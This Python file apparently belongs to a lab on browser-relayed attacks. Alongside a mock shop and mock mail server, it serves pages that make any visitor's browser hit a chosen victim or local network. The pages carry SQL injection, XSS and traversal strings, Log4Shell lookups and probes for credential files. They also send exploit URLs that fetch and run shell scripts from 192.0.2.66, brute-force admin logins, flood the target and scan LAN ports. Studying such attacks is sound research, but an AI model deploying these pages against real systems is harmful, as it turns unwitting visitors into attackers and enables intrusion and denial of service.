"""The servers of lab/lured.sh.

  pages.py elsewhere ADDRESS VICTIM LAN    pages that make whoever opens them ask VICTIM (or search LAN) for what an attacker wants asked
  pages.py mail ADDRESS                    the shop's mail server
  pages.py shop ADDRESS [TLS-CERTIFICATE TLS-KEY]     the victim: a small shop with a log-in form
"""
import http.server
import html
import json
import socketserver
import ssl
import sys
import urllib.parse

INJECTIONS = ["1' OR 1=1--", "1' UNION SELECT 1,2,3--", "1;cat /etc/passwd", "../../../../etc/passwd", "<script>alert(1)</script>", "1' AND SLEEP(5)--", "${jndi:ldap://192.0.2.66/a}",
              "|| whoami", "' OR 'a'='a", "1) UNION ALL SELECT NULL,NULL#", "<svg onload=alert(1)>", "php://filter/convert.base64-encode/resource=index", "1' ORDER BY 10--", "$(id)", "'; DROP TABLE users--",
              "..%2f..%2f..%2fetc%2fshadow", "1 AND 1=2 UNION SELECT user,password FROM users", "\" onmouseover=alert(1) x=\"", "1';WAITFOR DELAY '0:0:5'--", "{{7*7}}"]
PROBES = [".env", ".git/config", "wp-config.php.bak", "backup.sql", ".aws/credentials", "phpinfo.php", ".htpasswd", "id_rsa", ".svn/entries", "server-status", "config.php~", "dump.sql", ".DS_Store", "web.config", "actuator/env"]
EXPLOITS = ["/?x=${jndi:ldap://192.0.2.66/a}", "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
            "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.66/m.sh+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1",
            "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(wget+http://192.0.2.66/a.sh;sh+a.sh)", "/invoker/JMXInvokerServlet", "/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"]
WORDS = ["admin", "login", "backup", "test", "old", "dev", "tmp", "config", "data", "db", "sql", "private", "secret", "upload", "uploads", "files", "include", "lib", "api", "cgi-bin", "manager", "console", "phpmyadmin", "wp-admin", "wp-login", "xmlrpc",
         "shell", "cmd", "user", "users", "account", "setup", "install", "webmail", "mail", "portal", "status", "stats", "logs", "log"]
PATHS = [f"/{w}{e}" for e in ("", ".php", ".bak", ".zip", "/") for w in WORDS]
CODE = "const no = {mode: 'no-cors'}, wait = ms => new Promise(f => setTimeout(f, ms)), frame = n => { const f = document.createElement('iframe'); f.name = n; document.body.append(f); return n; };\n"


def tags(make, values):
    return "\n".join(make(html.escape(v, quote=True)) for v in values)


def asked(victim):
    """An injection in a query, encoded as a link would have it."""
    return [f"http://{victim}/item?id={urllib.parse.quote(i, safe='/')}" for i in INJECTIONS]


def script_text(values):
    """A list for a script that stands in a page: nothing in it ends the script."""
    return json.dumps(values).replace("</", "<\\/")


def forms(victim, kind):
    return CODE + f"""(async () => {{ for (const [n, v] of {script_text(INJECTIONS)}.entries()) {{
  const f = document.createElement('form'); f.method = 'POST'; f.action = 'http://{victim}/search?n=' + n; f.enctype = '{kind}'; f.target = frame('f' + n);
  const i = document.createElement('input'); i.name = 'q'; i.value = v; f.append(i); document.body.append(f); f.submit(); await wait(150); }} }})()"""


def scripted(body):
    return f"<!doctype html><body><script>{body}</script>"


def page(name, victim, lan):
    image = lambda extra: lambda u: f'<img src="{u}"{extra}>'
    here = lambda paths: [f"http://{victim}{p if p.startswith('/') else '/' + p}" for p in paths]
    post = lambda port, path: f"fetch('http://{victim}:{port}{path}', {{...no, method: 'POST', body: v}})"
    pages = {
        "images": lambda: tags(image(""), asked(victim)),
        "images-unreferred": lambda: tags(image(' referrerpolicy="no-referrer"'), asked(victim)),
        "frames": lambda: tags(lambda u: f'<iframe src="{u}"></iframe>', asked(victim)),
        "scripts": lambda: tags(lambda u: f'<script src="{u}"></script>', asked(victim)),
        "styles": lambda: tags(lambda u: f'<link rel="stylesheet" href="{u}"><video src="{u}"></video>', asked(victim)[:10]),
        "forms": lambda: scripted(forms(victim, "application/x-www-form-urlencoded")),
        "forms-parts": lambda: scripted(forms(victim, "multipart/form-data")),
        "forms-text": lambda: scripted(forms(victim, "text/plain")),
        "forms-unreferred": lambda: '<meta name="referrer" content="no-referrer">' + scripted(forms(victim, "application/x-www-form-urlencoded")),
        "fetch": lambda: scripted(CODE + f"(async () => {{ for (const u of {script_text(asked(victim))}) {{ fetch(u, no); await wait(100); }} }})()"),
        "fetch-posts": lambda: scripted(CODE + f"(async () => {{ for (const v of {script_text(INJECTIONS)}.map(s => JSON.stringify({{name: s}}))) {{ {post(80, '/api/search')}; await wait(100); }} }})()"),
        "beacons": lambda: '<meta name="referrer" content="no-referrer">' + scripted(CODE + f"(async () => {{ for (const v of {script_text(INJECTIONS)}) {{ navigator.sendBeacon('http://{victim}/collect', new URLSearchParams({{q: v}})); await wait(100); }} }})()"),
        "windows": lambda: scripted(CODE + f"(async () => {{ for (const u of {script_text(asked(victim))}) {{ const w = window.open(u, 'w'); await wait(300); }} }})()"),
        "probes": lambda: tags(image(""), here(PROBES)),
        "probes-unreferred": lambda: tags(image(' referrerpolicy="no-referrer"'), here(PROBES)),
        "exploits": lambda: tags(image(""), here(EXPLOITS)),
        "exploits-unreferred": lambda: tags(image(' referrerpolicy="no-referrer"'), here(EXPLOITS)),
        "missing": lambda: tags(image(""), here(PATHS)),
        "missing-unreferred": lambda: tags(image(' referrerpolicy="no-referrer"'), here(PATHS)),
        "passwords": lambda: scripted(CODE + f"(async () => {{ for (let n = 0; n < 120; n++) {{ fetch('http://{victim}/login', {{...no, method: 'POST', body: new URLSearchParams({{user: 'admin', password: 'secret' + n}})}}); await wait(60); }} }})()"),
        "passwords-forms": lambda: scripted(CODE + f"""(async () => {{ for (let n = 0; n < 60; n++) {{ const f = document.createElement('form'); f.method = 'POST'; f.action = 'http://{victim}/login'; f.target = frame('f' + n % 4);
            f.innerHTML = '<input name=user value=admin><input name=password value=secret' + n + '>'; document.body.append(f); f.submit(); await wait(150); }} }})()"""),
        "passwords-tls": lambda: scripted(CODE + f"(async () => {{ for (let n = 0; n < 150; n++) {{ fetch('https://{victim}/login', {{...no, method: 'POST', body: new URLSearchParams({{user: 'admin', password: 'secret' + n}})}}); await wait(40); }} }})()"),
        "missing-tls": lambda: tags(image(""), [u.replace("http:", "https:") for u in here(PATHS)]),
        "flood": lambda: scripted(CODE + f"(async () => {{ for (let n = 0; n < 4000; n++) {{ fetch('http://{victim}/?' + n, no).catch(() => 0); if (n % 4 == 0) await wait(4); }} }})()"),
        "flood-tls": lambda: scripted(CODE + f"(async () => {{ for (let n = 0; n < 4000; n++) {{ fetch('https://{victim}/?' + n, no).catch(() => 0); if (n % 4 == 0) await wait(4); }} }})()"),
        "flood-posts": lambda: scripted(CODE + f"(async () => {{ for (let n = 0; n < 2000; n++) {{ fetch('http://{victim}/search', {{...no, method: 'POST', body: 'q=' + n}}).catch(() => 0); if (n % 4 == 0) await wait(8); }} }})()"),
        "lan-ports": lambda: scripted(CODE + f"(async () => {{ for (const p of [80, 81, 88, 443, 631, 3000, 3306, 5000, 5432, 5900, 6379, 7001, 8000, 8008, 8080, 8081, 8086, 8123, 8443, 8888, 9000, 9090, 9100, 9200, 9443, 11211, 27017, 32400, 49152, 50000]) {{ fetch('http://{lan}.10:' + p + '/', no).catch(() => 0); try {{ new WebSocket('ws://{lan}.10:' + p); }} catch {{}} await wait(100); }} }})()"),
        "names": lambda: scripted(CODE + "(async () => { const w = n => Array.from({length: n}, () => 'abcdefghijklmnopqrstuvwxyz234567'[Math.random() * 32 | 0]).join(''); for (;;) { new Image().src = 'http://' + w(50) + '.' + w(50) + '.t.example/'; await wait(20); } })()"),
        "lan-hosts": lambda: scripted(CODE + f"(async () => {{ for (let h = 1; h < 255; h++) {{ fetch('http://{lan}.' + h + '/', no).catch(() => 0); await wait(40); }} }})()"),
    }
    return pages[name]() if name in pages else None


class Elsewhere(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        text = page(self.path[1:], sys.argv[3], sys.argv[4])
        self.answer(200 if text is not None else 404, text or "")

    def answer(self, status, text, **headers):
        body = text.encode()
        self.send_response(status)
        for k, v in headers.items():
            self.send_header(k, v)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    def log_message(self, *_):
        pass


class Shop(Elsewhere):
    FORM = "<html><title>Sign in</title><form method=post><input name=user><input type=password name=password></form>"

    def do_GET(self):
        path = self.path.split("?")[0]
        known = path in ("/", "/item", "/search", "/news", "/about", "/contact") or path.startswith("/articles/")
        self.answer(200 if path == "/login" or known else 404, self.FORM if path == "/login" else f"<html><title>{path}</title>" + "<p>words</p>" * 40 + "".join(f"<a href=/articles/{n}>{n}</a>" for n in range(60)) if known else "not found")

    do_HEAD = do_GET

    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        path = self.path.split("?")[0]
        self.answer(200 if path in ("/login", "/search", "/collect", "/api/search") else 404, self.FORM + "wrong name or password" if path == "/login" else "thanks")


class Server(http.server.ThreadingHTTPServer):
    daemon_threads, request_queue_size = True, 128

    def server_bind(self):
        """Without asking for the address's name, which nobody here answers."""
        socketserver.TCPServer.server_bind(self)
        self.server_name, self.server_port = self.server_address


class Mail(socketserver.StreamRequestHandler):
    """One user in a hundred is there."""

    def handle(self):
        say = lambda text: self.wfile.write(text.encode() + b"\r\n")
        say("220 shop.example")
        while line := self.rfile.readline():
            verb = line[:4].upper()
            if verb == b"DATA":
                say("354 go on")
                while self.rfile.readline() not in (b".\r\n", b""):
                    pass
            if verb == b"QUIT":
                return say("221 bye")
            say("550 5.1.1 no such user" if verb == b"RCPT" and b"<user" in line and not line.endswith(b"00@shop.example>\r\n") else "250 ok")


if __name__ == "__main__":
    if sys.argv[1] == "mail":
        socketserver.ThreadingTCPServer.allow_reuse_address = True
        socketserver.ThreadingTCPServer((sys.argv[2], 25), Mail).serve_forever()
    kind, address = sys.argv[1:3]
    port = 443 if kind == "shop" and len(sys.argv) > 3 else 80
    server = Server((address, port), Shop if kind == "shop" else Elsewhere)
    if port == 443:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(sys.argv[3], sys.argv[4])
        server.socket = context.wrap_socket(server.socket, server_side=True, do_handshake_on_connect=False)
    server.serve_forever()
